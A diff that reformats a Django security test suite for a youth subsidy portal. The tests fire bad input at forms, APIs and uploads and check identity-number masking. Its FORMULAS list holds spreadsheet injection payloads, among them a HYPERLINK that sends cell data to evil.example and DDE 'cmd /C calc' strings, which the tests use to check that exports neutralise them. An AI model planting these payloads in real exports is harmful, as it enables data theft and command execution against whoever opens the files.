@@ -26,12 +26,26 @@ from . import badinput, harness
 from .matrix import BUILD, EXPECT
 
 # The role that uses a route: the first of these the matrix lets through (2xx, 3xx or 400).
-PREFERENCE = ("youth", "mentor", "operator", "reviewer", "approver", "anon", "youth_b", "mentor_b", "operator_b",
-              "admin")
+PREFERENCE = (
+    "youth",
+    "mentor",
+    "operator",
+    "reviewer",
+    "approver",
+    "anon",
+    "youth_b",
+    "mentor_b",
+    "operator_b",
+    "admin",
+)
 ROLE = {  # pages every role may POST to, whose real user is a particular one
-    "<lang>/accounts/login/": "anon", "<lang>/accounts/signup/": "anon", "<lang>/accounts/password/reset/": "anon",
-    "<lang>/accounts/password/reset/<uidb64>/<token>/": "anon", "<lang>/mentors/profile/": "mentor",
-    "<lang>/mentors/my-mentees/": "mentor", "<lang>/subsidies/batches/<int:pk>/mark-paid/": "approver",
+    "<lang>/accounts/login/": "anon",
+    "<lang>/accounts/signup/": "anon",
+    "<lang>/accounts/password/reset/": "anon",
+    "<lang>/accounts/password/reset/<uidb64>/<token>/": "anon",
+    "<lang>/mentors/profile/": "mentor",
+    "<lang>/mentors/my-mentees/": "mentor",
+    "<lang>/subsidies/batches/<int:pk>/mark-paid/": "approver",
 }
 # What a form needs besides what the page fills in, for its plain submission to be accepted.
 VALID = {
@@ -45,8 +59,13 @@ VALID = {
 }
 # Forms whose plain submission is refused whatever we fill in (credentials we do not know, a
 # file the form needs); their fields are attacked all the same.
-REFUSED_BASE = {"<lang>/accounts/login/", "<lang>/accounts/signup/", "<lang>/accounts/password/change/",
-                "<lang>/subsidies/claims/<int:pk>/documents/", "<lang>/bases/<int:pk>/edit/"}
+REFUSED_BASE = {
+    "<lang>/accounts/login/",
+    "<lang>/accounts/signup/",
+    "<lang>/accounts/password/change/",
+    "<lang>/subsidies/claims/<int:pk>/documents/",
+    "<lang>/bases/<int:pk>/edit/",
+}
 # Text fields without a length limit: a 100,000-character value would be accepted; any field must
 # refuse it (notes, reasons, biographies: at most portal.forms.FREE_TEXT_MAX_LENGTH characters). A
 # field added without a limit fails the suite until it gets one (or is named here, with a reason).
@@ -54,17 +73,36 @@ UNBOUNDED_PAGE_FIELDS: set[tuple[str, str]] = set()
 UNBOUNDED_API_FIELDS: set[tuple[str, str]] = set()
 # Pages that take a POST but read no form from it (a button, or a page that ignores the body).
 NO_FORM = {
-    "<lang>/", "<lang>/dashboard/", "<lang>/accounts/notifications/", "<lang>/accounts/notifications/read/",
-    "<lang>/accounts/password/reset/<uidb64>/<token>/", "<lang>/bases/",
-    "<lang>/bases/<int:pk>/", "<lang>/bases/<int:pk>/history/", "<lang>/bases/review/", "<lang>/bases/statistics/",
-    "<lang>/bases/statistics/download.<str:fmt>", "<lang>/mentors/", "<lang>/mentors/<int:pk>/",
-    "<lang>/mentors/my-mentees/", "<lang>/mentors/services/<int:pk>/evidence/",
-    "<lang>/mentors/services/<int:pk>/insurance/", "<lang>/mentors/staff/", "<lang>/policies/",
-    "<lang>/policies/<slug:slug>/", "<lang>/subsidies/", "<lang>/subsidies/batches/",
-    "<lang>/subsidies/batches/<int:pk>/", "<lang>/subsidies/batches/<int:pk>/export.<str:fmt>",
-    "<lang>/subsidies/claims/", "<lang>/subsidies/claims/<int:pk>/",
-    "<lang>/subsidies/documents/<int:pk>/", "<lang>/subsidies/exports/<int:pk>/",
-    "<lang>/subsidies/exports/<int:pk>/download/", "<lang>/subsidies/review/", "<lang>/subsidies/statistics/",
+    "<lang>/",
+    "<lang>/dashboard/",
+    "<lang>/accounts/notifications/",
+    "<lang>/accounts/notifications/read/",
+    "<lang>/accounts/password/reset/<uidb64>/<token>/",
+    "<lang>/bases/",
+    "<lang>/bases/<int:pk>/",
+    "<lang>/bases/<int:pk>/history/",
+    "<lang>/bases/review/",
+    "<lang>/bases/statistics/",
+    "<lang>/bases/statistics/download.<str:fmt>",
+    "<lang>/mentors/",
+    "<lang>/mentors/<int:pk>/",
+    "<lang>/mentors/my-mentees/",
+    "<lang>/mentors/services/<int:pk>/evidence/",
+    "<lang>/mentors/services/<int:pk>/insurance/",
+    "<lang>/mentors/staff/",
+    "<lang>/policies/",
+    "<lang>/policies/<slug:slug>/",
+    "<lang>/subsidies/",
+    "<lang>/subsidies/batches/",
+    "<lang>/subsidies/batches/<int:pk>/",
+    "<lang>/subsidies/batches/<int:pk>/export.<str:fmt>",
+    "<lang>/subsidies/claims/",
+    "<lang>/subsidies/claims/<int:pk>/",
+    "<lang>/subsidies/documents/<int:pk>/",
+    "<lang>/subsidies/exports/<int:pk>/",
+    "<lang>/subsidies/exports/<int:pk>/download/",
+    "<lang>/subsidies/review/",
+    "<lang>/subsidies/statistics/",
     "healthz",
 }
 OVERSIZE = settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1
@@ -92,8 +130,11 @@ def discovered(world, clients, django_db_blocker) -> dict[str, list[badinput.For
     found: dict[str, dict] = {}
     with django_db_blocker.unblock():
         for role in {user_role(r) for r in PAGE_ROUTES}:
-            pages = [url_of(r, world) for r in EXPECT
-                     if not harness.is_api(r) and harness.parse(EXPECT[r].GET)[role] == "2xx"]
+            pages = [
+                url_of(r, world)
+                for r in EXPECT
+                if not harness.is_api(r) and harness.parse(EXPECT[r].GET)[role] == "2xx"
+            ]
             pages.append(f"/en/subsidies/claims/{world.objects['claim_draft'].pk}/")  # the upload form
             for url in pages:
                 response = clients[role].get(url)
@@ -135,8 +176,9 @@ def test_page_forms_refuse_bad_input(route, world, clients, discovered, db):
 
     check("empty body", badinput.send(client, "post", url))
     big = b"x=" + b"a" * OVERSIZE
-    sent = check("oversized body", badinput.send(client, "post", url, data=big,
-                                                  content_type="application/x-www-form-urlencoded"))
+    sent = check(
+        "oversized body", badinput.send(client, "post", url, data=big, content_type="application/x-www-form-urlencoded")
+    )
     if any(set(f.kinds.values()) - {"hidden", "submit"} for f in forms) and sent.status != 400:
         wrong.append(f"oversized body: {sent.status}, not 400")  # a page that reads a form must refuse it
     for form in forms:
@@ -144,31 +186,54 @@ def test_page_forms_refuse_bad_input(route, world, clients, discovered, db):
         base = form.data(**(extra(world.objects) if callable(extra) else extra))
         plain = check(f"{form.action} plain", badinput.send(client, "post", form.action, data=base))
         if route not in REFUSED_BASE and badinput.refused(plain):
-            wrong.append(f"{form.action}: the plain submission is refused ({plain.status}), so the attacks prove nothing")
-        check(f"{form.action} as JSON", badinput.send(client, "post", form.action, data=json.dumps(base),
-                                                      content_type="application/json"))
+            wrong.append(
+                f"{form.action}: the plain submission is refused ({plain.status}), so the attacks prove nothing"
+            )
+        check(
+            f"{form.action} as JSON",
+            badinput.send(client, "post", form.action, data=json.dumps(base), content_type="application/json"),
+        )
         for name in form.text_fields():
             label = f"{form.action} {name}"
-            check(f"{label} NUL", badinput.send(client, "post", form.action, data={**base, name: badinput.NUL}),
-                  must_refuse=True)
-            huge = check(f"{label} 100,000 characters",
-                         badinput.send(client, "post", form.action, data={**base, name: badinput.HUGE}))
+            check(
+                f"{label} NUL",
+                badinput.send(client, "post", form.action, data={**base, name: badinput.NUL}),
+                must_refuse=True,
+            )
+            huge = check(
+                f"{label} 100,000 characters",
+                badinput.send(client, "post", form.action, data={**base, name: badinput.HUGE}),
+            )
             unbounded = _field_key(route, name) in UNBOUNDED_PAGE_FIELDS
             if route not in REFUSED_BASE and badinput.refused(huge) == unbounded:
-                wrong.append(f"{label}: 100,000 characters {'refused' if unbounded else 'accepted'}; "
-                             "UNBOUNDED_PAGE_FIELDS says otherwise")
+                wrong.append(
+                    f"{label}: 100,000 characters {'refused' if unbounded else 'accepted'}; "
+                    "UNBOUNDED_PAGE_FIELDS says otherwise"
+                )
             for kind, raw in badinput.RAW_PAYLOADS.items():
                 others = {k: v for k, v in base.items() if k != name}
-                check(f"{label} {kind}", badinput.send(
-                    client, "post", form.action, data=badinput.urlencoded(others, {name: raw}),
-                    content_type="application/x-www-form-urlencoded"))
+                check(
+                    f"{label} {kind}",
+                    badinput.send(
+                        client,
+                        "post",
+                        form.action,
+                        data=badinput.urlencoded(others, {name: raw}),
+                        content_type="application/x-www-form-urlencoded",
+                    ),
+                )
     assert not wrong, "\n".join(wrong)
 
 
 # --- every API write ------------------------------------------------------------------------------
 
-API_WRITES = sorted((r, m) for r in EXPECT if harness.is_api(r) for m in ("POST", "PUT", "PATCH")
-                    if getattr(EXPECT[r], m) and user_role(r, m))
+API_WRITES = sorted(
+    (r, m)
+    for r in EXPECT
+    if harness.is_api(r)
+    for m in ("POST", "PUT", "PATCH")
+    if getattr(EXPECT[r], m) and user_role(r, m)
+)
 # Endpoints that act on the URL alone and never read a body.
 BODYLESS = {("api/v1/subsidies/payment-batches/<int:pk>/mark-paid/", "POST")}
 # Endpoints with parsers of their own (DRF's token view): NUL and surrogates still get a 400 from
@@ -189,8 +254,10 @@ def _request_fields() -> dict[tuple[str, str], set[str]]:
                 ref = body["schema"].get("$ref", "").rsplit("/", 1)[-1]
                 properties = components.get(ref, {}).get("properties", {})
                 out.setdefault((path, method.upper()), set()).update(
-                    name for name, p in properties.items()
-                    if p.get("type") == "string" and not p.get("readOnly") and p.get("format") != "binary")
+                    name
+                    for name, p in properties.items()
+                    if p.get("type") == "string" and not p.get("readOnly") and p.get("format") != "binary"
+                )
     return out
 
 
@@ -227,20 +294,38 @@ def test_api_refuses_bad_input(route, method, world, clients, request_fields, db
         return sent
 
     def as_json(data, label, expect=None):
-        return check(label, badinput.send(client, verb, url, data=json.dumps(data), content_type="application/json"),
-                     expect)
+        return check(
+            label, badinput.send(client, verb, url, data=json.dumps(data), content_type="application/json"), expect
+        )
 
     check("empty JSON body", badinput.send(client, verb, url, data=b"", content_type="application/json"))
-    check("malformed JSON", badinput.send(client, verb, url, data=b'{"a": ', content_type="application/json"),
-          {400, 415})
+    check(
+        "malformed JSON", badinput.send(client, verb, url, data=b'{"a": ', content_type="application/json"), {400, 415}
+    )
     check("text/plain", badinput.send(client, verb, url, data=b"hello", content_type="text/plain"), {415})
-    check("not UTF-8", badinput.send(client, verb, url, data=b'{"x": "\xff\xfe"}', content_type="application/json"),
-          {400, 415})
-    check("oversized JSON", badinput.send(client, verb, url, data=json.dumps({**({} if multipart else base), "pad": "a" * OVERSIZE}),
-                                          content_type="application/json"), {413, 415})
+    check(
+        "not UTF-8",
+        badinput.send(client, verb, url, data=b'{"x": "\xff\xfe"}', content_type="application/json"),
+        {400, 415},
+    )
+    check(
+        "oversized JSON",
+        badinput.send(
+            client,
+            verb,
+            url,
+            data=json.dumps({**({} if multipart else base), "pad": "a" * OVERSIZE}),
+            content_type="application/json",
+        ),
+        {413, 415},
+    )
     if not multipart:  # the upload endpoint's fields are attacked in the upload tests below
-        check("form-encoded", badinput.send(client, verb, url, data=badinput.urlencoded(base),
-                                            content_type="application/x-www-form-urlencoded"))
+        check(
+            "form-encoded",
+            badinput.send(
+                client, verb, url, data=badinput.urlencoded(base), content_type="application/x-www-form-urlencoded"
+            ),
+        )
     plain = None if multipart else as_json(base, "plain")
     for name in [] if multipart else fields:
         as_json({**base, name: badinput.NUL}, f"{name} NUL", {400})
@@ -250,9 +335,17 @@ def test_api_refuses_bad_input(route, method, world, clients, request_fields, db
         kept = huge.status < 300 and badinput.HUGE in huge.text  # stored and echoed, not ignored
         if plain.status < 300 and kept != unbounded:
             wrong.append(f"{name}: 100,000 characters answered {huge.status}; UNBOUNDED_API_FIELDS says otherwise")
-        check(f"{name} NUL form-encoded", badinput.send(
-            client, verb, url, data=badinput.urlencoded({**base, name: badinput.NUL}),
-            content_type="application/x-www-form-urlencoded"), {400})
+        check(
+            f"{name} NUL form-encoded",
+            badinput.send(
+                client,
+                verb,
+                url,
+                data=badinput.urlencoded({**base, name: badinput.NUL}),
+                content_type="application/x-www-form-urlencoded",
+            ),
+            {400},
+        )
     assert not wrong, "\n".join(wrong)
 
 
@@ -279,18 +372,33 @@ def test_refusals_speak_the_request_language(world, clients, db):
     assert len({_in(lang, UNSAFE_TEXT) for lang in LANGS}) == 3, "the message is not translated"
     youth = clients["youth"]
     for lang in LANGS:
-        sent = badinput.send(youth, "post", f"/api/v1/subsidies/claims/?lang={lang}", content_type="application/json",
-                             data=json.dumps({"scheme": "luohu-living", "company_name": badinput.NUL}))
+        sent = badinput.send(
+            youth,
+            "post",
+            f"/api/v1/subsidies/claims/?lang={lang}",
+            content_type="application/json",
+            data=json.dumps({"scheme": "luohu-living", "company_name": badinput.NUL}),
+        )
         assert sent.status == 400 and not sent.written
         assert sent.response.json()["company_name"] == [_in(lang, UNSAFE_TEXT)], lang
-        sent = badinput.send(youth, "post", f"/api/v1/subsidies/claims/?lang={lang}", content_type="application/json",
-                             data=json.dumps({"pad": "a" * OVERSIZE}))
+        sent = badinput.send(
+            youth,
+            "post",
+            f"/api/v1/subsidies/claims/?lang={lang}",
+            content_type="application/json",
+            data=json.dumps({"pad": "a" * OVERSIZE}),
+        )
         assert sent.status == 413 and sent.response.json()["detail"] == _in(lang, RequestTooLarge.default_detail)
         sent = badinput.send(youth, "post", f"/{lang}/mentors/apply/", data={"display_name": badinput.NUL})
         assert sent.status == 200 and badinput.refused(sent) and not sent.written
         assert _in(lang, page_nul) in sent.text, lang
-        sent = badinput.send(youth, "post", f"/{lang}/mentors/apply/", data=b"x=" + b"a" * OVERSIZE,
-                             content_type="application/x-www-form-urlencoded")
+        sent = badinput.send(
+            youth,
+            "post",
+            f"/{lang}/mentors/apply/",
+            data=b"x=" + b"a" * OVERSIZE,
+            content_type="application/x-www-form-urlencoded",
+        )
         assert sent.status == 400 and not sent.written
         assert _in(lang, "The request could not be understood") in sent.text, lang
 
@@ -381,23 +489,32 @@ def _new_youth(email: str):
     return user, client
 
 
-CLAIM = {"scheme": "futian-internship", "education_level": "master", "start_date": "2026-01-05",
-         "end_date": "2026-03-31", "period": "2026"}
+CLAIM = {
+    "scheme": "futian-internship",
+    "education_level": "master",
+    "start_date": "2026-01-05",
+    "end_date": "2026-03-31",
+    "period": "2026",
+}
 
 
 @pytest.mark.parametrize("typed", ["Ａ１２３４５６（３）", "a123456 (3)"])
 def test_identity_typed_any_way_is_stored_once_canonical(typed, db, world):
     """Through the API and through the page, the number lands in the profile in one form."""
     api_user, api = _new_youth("id.api@test.gba-youth.example")
-    response = api.post("/api/v1/subsidies/claims/", content_type="application/json",
-                        data={**CLAIM, "identity_type": "hkid", "identity_number": typed})
+    response = api.post(
+        "/api/v1/subsidies/claims/",
+        content_type="application/json",
+        data={**CLAIM, "identity_type": "hkid", "identity_number": typed},
+    )
     assert response.status_code == 201, response.content
     api_user.refresh_from_db()
     assert api_user.subsidy_profile.identity_number == "A1234563"
 
     page_user, page = _new_youth("id.page@test.gba-youth.example")
-    response = page.post("/en/subsidies/apply/futian-internship/",
-                         data={**CLAIM, "identity_type": "hkid", "identity_number": typed})
+    response = page.post(
+        "/en/subsidies/apply/futian-internship/", data={**CLAIM, "identity_type": "hkid", "identity_number": typed}
+    )
     assert response.status_code == 302, response.content.decode()[:2000]
     page_user.refresh_from_db()
     assert page_user.subsidy_profile.identity_number == "A1234563"
@@ -407,12 +524,21 @@ def test_identity_refused_in_each_language_and_nothing_written(db, world):
     _user, client = _new_youth("id.refused@test.gba-youth.example")
     msgid = "The check digit of this Hong Kong identity card number is wrong."
     for lang in LANGS:
-        sent = badinput.send(client, "post", f"/api/v1/subsidies/claims/?lang={lang}", content_type="application/json",
-                             data=json.dumps({**CLAIM, "identity_type": "hkid", "identity_number": "Ａ１２３４５６（４）"}))
+        sent = badinput.send(
+            client,
+            "post",
+            f"/api/v1/subsidies/claims/?lang={lang}",
+            content_type="application/json",
+            data=json.dumps({**CLAIM, "identity_type": "hkid", "identity_number": "Ａ１２３４５６（４）"}),
+        )
         assert sent.status == 400 and not sent.written, sent.text
         assert sent.response.json()["identity_number"] == [_in(lang, msgid)]
-        sent = badinput.send(client, "post", f"/{lang}/subsidies/apply/futian-internship/",
-                             data={**CLAIM, "identity_type": "hkid", "identity_number": "A123456(4)"})
+        sent = badinput.send(
+            client,
+            "post",
+            f"/{lang}/subsidies/apply/futian-internship/",
+            data={**CLAIM, "identity_type": "hkid", "identity_number": "A123456(4)"},
+        )
         assert sent.status == 400 and not sent.written
         assert _in(lang, msgid) in sent.text, lang
 
@@ -442,31 +568,58 @@ def _newest(model_path: str):
 
 UPLOADS = {
     "claim document (API)": Upload(
-        "youth", lambda o: f"/api/v1/subsidies/claims/{o['claim_draft'].pk}/documents/",
+        "youth",
+        lambda o: f"/api/v1/subsidies/claims/{o['claim_draft'].pk}/documents/",
         lambda o: {"kind": o["claim_draft"].scheme.required_documents.order_by("pk").first().code},
-        "file", 201, _newest("subsidies.ClaimDocument")),
+        "file",
+        201,
+        _newest("subsidies.ClaimDocument"),
+    ),
     "claim document (page)": Upload(
-        "youth", lambda o: f"/en/subsidies/claims/{o['claim_draft'].pk}/documents/",
+        "youth",
+        lambda o: f"/en/subsidies/claims/{o['claim_draft'].pk}/documents/",
         lambda o: {"kind": o["claim_draft"].scheme.required_documents.order_by("pk").first().code},
-        "file", 302, _newest("subsidies.ClaimDocument")),
+        "file",
+        302,
+        _newest("subsidies.ClaimDocument"),
+    ),
     "mentor's evidence (API)": Upload(
-        "mentor", lambda o: "/api/v1/mentorship/services/",
-        lambda o: {"relationship": o["rel_a"].pk, "kind": "career_guidance", "date": str(o["rel_a"].start_date),
-                   "topic": "CV"},
-        "evidence", 201, _newest("mentorship.Service")),
+        "mentor",
+        lambda o: "/api/v1/mentorship/services/",
+        lambda o: {
+            "relationship": o["rel_a"].pk,
+            "kind": "career_guidance",
+            "date": str(o["rel_a"].start_date),
+            "topic": "CV",
+        },
+        "evidence",
+        201,
+        _newest("mentorship.Service"),
+    ),
     "mentor's evidence (page)": Upload(
-        "mentor", lambda o: f"/en/mentors/relationships/{o['rel_a'].pk}/",
+        "mentor",
+        lambda o: f"/en/mentors/relationships/{o['rel_a'].pk}/",
         lambda o: {"kind": "career_guidance", "date": str(o["rel_a"].start_date), "topic": "CV"},
-        "evidence", 302, _newest("mentorship.Service")),
+        "evidence",
+        302,
+        _newest("mentorship.Service"),
+    ),
     "base photo (page)": Upload(
-        "operator", lambda o: f"/en/bases/{o['base_a'].pk}/edit/", lambda o: {"action": "photo", "caption": "Desk"},
-        "image", 302, _newest("incubators.BasePhoto"), good=b""),
+        "operator",
+        lambda o: f"/en/bases/{o['base_a'].pk}/edit/",
+        lambda o: {"action": "photo", "caption": "Desk"},
+        "image",
+        302,
+        _newest("incubators.BasePhoto"),
+        good=b"",
+    ),
 }
 
 
 def _send_upload(target: Upload, world, clients, filename: str, content: bytes, inspect=None, lang: str = "en"):
-    body, content_type = badinput.multipart(target.fields(world.objects),
-                                            {target.file_field: (filename, content, "application/octet-stream")})
+    body, content_type = badinput.multipart(
+        target.fields(world.objects), {target.file_field: (filename, content, "application/octet-stream")}
+    )
     url = target.url(world.objects).replace("/en/", f"/{lang}/", 1)
     if url.startswith("/api/"):
         url += f"?lang={lang}"
@@ -539,8 +692,13 @@ def test_upload_refusal_speaks_the_request_language(world, clients, db):
 def _download(client, path: str) -> dict:
     response = client.get(path)
     body = b"".join(response.streaming_content) if response.streaming else response.content
-    return {"status": response.status_code, "type": response.get("Content-Type", ""), "body": body,
-            "disposition": response.get("Content-Disposition", ""), "nosniff": response.get("X-Content-Type-Options")}
+    return {
+        "status": response.status_code,
+        "type": response.get("Content-Type", ""),
+        "body": body,
+        "disposition": response.get("Content-Disposition", ""),
+        "nosniff": response.get("X-Content-Type-Options"),
+    }
 
 
 SAFE_TYPES = {"application/pdf", "image/jpeg", "image/png"}
@@ -565,11 +723,11 @@ def test_uploaded_files_are_served_as_what_they_are(name, world, clients, db):
         pk = Service.objects.order_by("-pk").first().pk
         got["evidence"] = _download(clients["mentor"], f"/en/mentors/services/{pk}/evidence/")
 
-    sent = _send_upload(UPLOADS["claim document (page)"], world, clients, name, badinput.POLYGLOT,
-                        inspect=claim_document)
+    sent = _send_upload(
+        UPLOADS["claim document (page)"], world, clients, name, badinput.POLYGLOT, inspect=claim_document
+    )
     assert sent.status == 302
-    sent = _send_upload(UPLOADS["mentor's evidence (page)"], world, clients, name, badinput.POLYGLOT,
-                        inspect=evidence)
+    sent = _send_upload(UPLOADS["mentor's evidence (page)"], world, clients, name, badinput.POLYGLOT, inspect=evidence)
     assert sent.status == 302
     for label, d in got.items():
         assert d["status"] == 200 and d["body"] == badinput.POLYGLOT, label
@@ -582,8 +740,14 @@ def test_uploaded_files_are_served_as_what_they_are(name, world, clients, db):
 
 # --- exports: formula injection -------------------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
 
@@ -678,8 +842,7 @@ def test_every_export_neutralises_a_hostile_name(formula, world, clients, db):
     for name, content in files.items():
         problems = csv_problems(content) if name.endswith("csv") else xlsx_problems(content)
         assert not problems, (name, problems)
-        cells = (content.decode("utf-8") if name.endswith("csv")
-                 else " ".join(str(c.value) for c in xlsx_cells(content)))
+        cells = content.decode("utf-8") if name.endswith("csv") else " ".join(str(c.value) for c in xlsx_cells(content))
         assert "'" + formula.strip("\r")[:8] in cells or "'" + formula[:8] in cells, (name, "the value is not there")
 
 
@@ -701,8 +864,10 @@ def _columns_holding(value: str) -> set[tuple[str, str]]:
             for f in model._meta.concrete_fields:
                 if isinstance(f, models.CharField | models.TextField | models.JSONField):
                     table, column = model._meta.db_table, f.column
-                    cursor.execute(f'SELECT 1 FROM "{table}" WHERE "{column}"::text LIKE %s LIMIT 1',  # noqa: S608
-                                   [f"%{value}%"])
+                    cursor.execute(
+                        f'SELECT 1 FROM "{table}" WHERE "{column}"::text LIKE %s LIMIT 1',  # noqa: S608
+                        [f"%{value}%"],
+                    )
                     if cursor.fetchone():
                         found.add((table, column))
     return found
@@ -727,12 +892,19 @@ def test_identity_numbers_are_masked_for_staff_until_revealed(world, clients, db
     assert claim.identity_number == DEMO_ID
     masked = rules.mask_identity(DEMO_ID)
     pages = {
-        "reviewer": [f"/en/subsidies/claims/{claim.pk}/", "/en/subsidies/review/",
-                     f"/en/subsidies/batches/{world.objects['batch'].pk}/",
-                     f"/api/v1/subsidies/claims/{claim.pk}/", "/api/v1/subsidies/claims/"],
+        "reviewer": [
+            f"/en/subsidies/claims/{claim.pk}/",
+            "/en/subsidies/review/",
+            f"/en/subsidies/batches/{world.objects['batch'].pk}/",
+            f"/api/v1/subsidies/claims/{claim.pk}/",
+            "/api/v1/subsidies/claims/",
+        ],
         "approver": [f"/en/subsidies/claims/{claim.pk}/", f"/api/v1/subsidies/claims/{claim.pk}/"],
-        "admin": [f"/en/subsidies/claims/{claim.pk}/", f"/en/admin/subsidies/claim/{claim.pk}/change/",
-                  "/en/admin/subsidies/claim/"],
+        "admin": [
+            f"/en/subsidies/claims/{claim.pk}/",
+            f"/en/admin/subsidies/claim/{claim.pk}/change/",
+            "/en/admin/subsidies/claim/",
+        ],
         "youth": [f"/en/subsidies/claims/{claim.pk}/", f"/api/v1/subsidies/claims/{claim.pk}/"],
     }
     for role, urls in pages.items():
@@ -767,9 +939,12 @@ def test_exports_carry_masked_identity_numbers(world, clients, db):
     job = ExportJob.objects.create(requested_by=world.users["reviewer"], kind="claims-csv")
     export_build(job_id=job.pk)
     job.refresh_from_db()
-    files = {"claims": job.file.read().decode("utf-8"),
-             "batch": clients["reviewer"].get(f"/en/subsidies/batches/{world.objects['batch'].pk}/export.csv")
-             .content.decode("utf-8")}
+    files = {
+        "claims": job.file.read().decode("utf-8"),
+        "batch": clients["reviewer"]
+        .get(f"/en/subsidies/batches/{world.objects['batch'].pk}/export.csv")
+        .content.decode("utf-8"),
+    }
     for name, text in files.items():
         assert "A123456" not in text and "4563" in text, name
 
@@ -783,12 +958,18 @@ def _query_params() -> dict[str, set[str]]:
     from drf_spectacular.generators import SchemaGenerator
 
     schema = SchemaGenerator().get_schema(request=None, public=True)
-    return {path: {p["name"] for p in op.get("parameters", []) if p.get("in") == "query"} | {"page", "lang"}
-            for path, ops in schema["paths"].items() for method, op in ops.items() if method == "get"}
+    return {
+        path: {p["name"] for p in op.get("parameters", []) if p.get("in") == "query"} | {"page", "lang"}
+        for path, ops in schema["paths"].items()
+        for method, op in ops.items()
+        if method == "get"
+    }
 
 
 READERS = ("reviewer", "youth", "mentor", "operator", "anon", "admin")
-GET_ROUTES = sorted(r for r in EXPECT if EXPECT[r].GET and any(harness.parse(EXPECT[r].GET)[x] == "2xx" for x in READERS))
+GET_ROUTES = sorted(
+    r for r in EXPECT if EXPECT[r].GET and any(harness.parse(EXPECT[r].GET)[x] == "2xx" for x in READERS)
+)
 
 
 @pytest.mark.parametrize("route", GET_ROUTES)
@@ -813,10 +994,13 @@ def test_query_strings_never_cause_a_server_error(route, world, clients, db):
     assert not wrong, "\n".join(wrong)
 
 
-@pytest.mark.parametrize(("url", "params"), [
-    ("/api/v1/incubators/bases/", ("q", "city", "district")),
-    ("/api/v1/subsidies/claims/", ("scheme", "state")),
-])
+@pytest.mark.parametrize(
+    ("url", "params"),
+    [
+        ("/api/v1/incubators/bases/", ("q", "city", "district")),
+        ("/api/v1/subsidies/claims/", ("scheme", "state")),
+    ],
+)
 def test_api_filters_refuse_a_nul_by_name(url, params, clients, db):
     """These were 500s (the NUL reached PostgreSQL): now a 400 naming the parameter, in the
     request's language."""
